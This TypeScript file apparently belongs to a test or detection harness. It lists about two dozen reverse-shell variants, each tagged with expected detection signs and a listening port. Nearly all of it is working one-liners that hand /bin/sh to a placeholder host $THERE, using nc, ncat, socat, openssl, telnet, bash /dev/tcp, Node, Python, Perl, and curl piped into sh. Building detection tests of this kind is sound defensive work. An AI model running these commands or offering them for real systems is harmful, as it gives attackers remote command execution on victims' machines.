import {connects, lines, node, python, throughFifo} from '../stage/scripts.ts';
import type {Variant} from '../stage/variant.ts';

const odd = 7103;

const relayed = (given: Pick<Variant, 'id' | 'does' | 'start'> & Partial<Variant>, kind = 3, port = odd): Variant => ({
  kind,
  signs: ['owner-relay', 'owner-shell', 'owner-script'],
  waits: {tcp: port},
  answers: true,
  ...given,
});

const pythonPipes = (port: number): string =>
  python(
    lines(
      connects('tcp', port),
      'import subprocess, threading',
      'sh = subprocess.Popen(["/bin/sh"], stdin=-1, stdout=-1, stderr=-2, bufsize=0)',
      'def back():',
      '  while data := sh.stdout.read(4096): s.sendall(data)',
      'threading.Thread(target=back).start()',
      'while data := s.recv(4096): sh.stdin.write(data)',
    ),
  );

/** 3: the program of the connection hands the orders to a shell of its own. */
const onOddPort: readonly Variant[] = [
  relayed({id: 'fifo-nc-openbsd', does: 'mkfifo, sh -i, nc', start: throughFifo(`nc.openbsd $THERE ${odd}`)}),
  relayed({
    id: 'fifo-nc-traditional',
    does: 'mkfifo, sh, nc',
    start: throughFifo(`nc.traditional $THERE ${odd}`, 'sh'),
  }),
  relayed({id: 'fifo-busybox-nc', does: 'mkfifo, sh, busybox nc', start: throughFifo(`busybox nc $THERE ${odd}`)}),
  relayed({id: 'ncat-e', does: 'ncat -e', start: `exec ncat -e /bin/sh $THERE ${odd}`}),
  relayed({id: 'ncat-ssl-e', does: 'ncat --ssl -e', start: `exec ncat --ssl -e /bin/sh $THERE ${odd}`, isTls: true}),
  relayed({
    id: 'socat-pty',
    does: 'socat EXEC with a terminal',
    start: `exec socat TCP:$THERE:${odd} EXEC:/bin/sh,pty,setsid,stderr`,
  }),
  relayed({
    id: 'socat-pipes',
    does: 'socat EXEC with pipes',
    start: `exec socat TCP:$THERE:${odd} EXEC:/bin/sh,pipes,stderr`,
  }),
  relayed({
    id: 'socat-socketpair',
    does: 'socat EXEC with a pair of sockets',
    start: `exec socat TCP:$THERE:${odd} EXEC:/bin/sh,stderr`,
  }),
  relayed({
    id: 'fifo-openssl',
    does: 'mkfifo, sh -i, openssl s_client',
    start: throughFifo(`openssl s_client -quiet -connect $THERE:${odd} 2> /dev/null`),
    isTls: true,
  }),
  relayed({
    id: 'busybox-telnet',
    does: 'mkfifo, telnet, sh',
    start: `mkfifo /tmp/$ID.fifo
busybox telnet $THERE ${odd} < /tmp/$ID.fifo | sh > /tmp/$ID.fifo 2>&1`,
  }),
  relayed({
    id: 'node-spawn',
    does: 'Node spawn and pipe',
    start: `exec ${node} -e 'const s = require("net").connect(${odd}, "$THERE");
const c = require("child_process").spawn("/bin/sh"); s.pipe(c.stdin); c.stdout.pipe(s); c.stderr.pipe(s)'`,
  }),
  relayed({id: 'python-popen', does: 'Python Popen with pipes', start: pythonPipes(odd)}),
  relayed({
    id: 'python-own-terminal',
    does: 'Python pty.fork, and copies',
    start: python(
      lines(
        connects('tcp', odd),
        'import pty, select',
        'pid, terminal = pty.fork()',
        'if pid == 0: os.execv("/bin/sh", ["sh"])',
        'while True:',
        '  for end in select.select([s, terminal], [], [])[0]:',
        '    if end is s: os.write(terminal, s.recv(4096))',
        '    else: s.sendall(os.read(terminal, 4096))',
      ),
    ),
  }),
  relayed({
    id: 'fifo-script',
    does: 'mkfifo, nc, script gives sh a terminal',
    start: `mkfifo /tmp/$ID.fifo
nc.openbsd $THERE ${odd} < /tmp/$ID.fifo | script -qc sh /dev/null > /tmp/$ID.fifo`,
    needs: ['script'],
  }),
  relayed({
    id: 'coproc-cat',
    does: 'coproc of bash, and cat',
    start: `exec bash -c 'coproc sh 2>&1; exec 7<&"\${COPROC[0]}" 8>&"\${COPROC[1]}" 9<>/dev/tcp/$THERE/${odd}
cat <&9 >&8 & exec cat <&7 >&9'`,
  }),
  relayed({
    id: 'perl-open2',
    does: 'Perl open2',
    start: `exec perl -e 'use IPC::Open2; use IO::Socket::INET; $s = IO::Socket::INET->new("$THERE:${odd}");
open2($r, $w, "/bin/sh"); while (<$s>) { syswrite $w, $_; sysread $r, $b, 4096; syswrite $s, $b }'`,
  }),
];

/** 6: the same behind a port that is usual for a client. */
const onUsualPort: readonly Variant[] = [
  relayed({id: 'nc-into-sh-443', does: 'nc into sh, one way', start: 'nc.openbsd -d $THERE 443 | sh'}, 6, 443),
  relayed(
    {
      id: 'openssl-into-sh-443',
      does: 'openssl s_client into sh, one way',
      start: 'openssl s_client -quiet -connect $THERE:443 2> /dev/null | sh',
      isTls: true,
    },
    6,
    443,
  ),
  relayed({id: 'curl-into-sh-80', does: 'curl into sh', start: 'curl -sN http://$THERE/ | sh', needs: ['curl']}, 6, 80),
  relayed({id: 'fifo-nc-443', does: 'mkfifo, sh -i, nc to 443', start: throughFifo('nc.openbsd $THERE 443')}, 6, 443),
  relayed(
    {id: 'ncat-ssl-443', does: 'ncat --ssl -e to 443', start: 'exec ncat --ssl -e /bin/sh $THERE 443', isTls: true},
    6,
    443,
  ),
  relayed(
    {
      id: 'socat-openssl-443',
      does: 'socat OPENSSL, EXEC with a terminal, to 443',
      start: 'exec socat OPENSSL:$THERE:443,verify=0 EXEC:/bin/sh,pty,setsid,stderr',
      isTls: true,
    },
    6,
    443,
  ),
  relayed({id: 'python-popen-80', does: 'Python Popen with pipes, to 80', start: pythonPipes(80), as: 33}, 6, 80),
];

const oneWay = /-into-sh-/;

export const relays: readonly Variant[] = [...onOddPort, ...onUsualPort].map(variant => {
  if (!oneWay.test(variant.id)) return variant;
  // No answer of the shell comes back.
  const {answers: _, ...rest} = variant;
  return rest;
});
